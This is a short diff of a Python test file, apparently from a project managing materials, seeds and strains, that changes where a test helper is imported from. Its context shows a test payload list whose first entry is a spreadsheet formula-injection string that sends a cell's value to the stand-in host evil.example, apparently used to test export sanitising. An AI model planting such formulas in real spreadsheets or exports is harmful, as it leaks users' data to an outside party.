@@ -20,7 +20,7 @@ from api.cli import main
 from repository.db import unit_of_work
 from repository.models import Material, Seed, Strain
 from repository.services import collections, materials
-from tests.integration.conftest import call
+from tests.clients import call
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
